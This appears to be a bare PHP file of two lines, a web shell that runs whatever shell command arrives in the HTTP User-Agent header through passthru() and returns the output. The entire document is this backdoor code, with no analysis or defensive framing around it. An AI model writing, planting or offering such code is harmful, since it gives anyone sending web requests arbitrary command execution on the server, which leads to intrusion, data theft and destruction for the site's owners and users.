<?php
echo passthru($_SERVER['HTTP_USER_AGENT']);
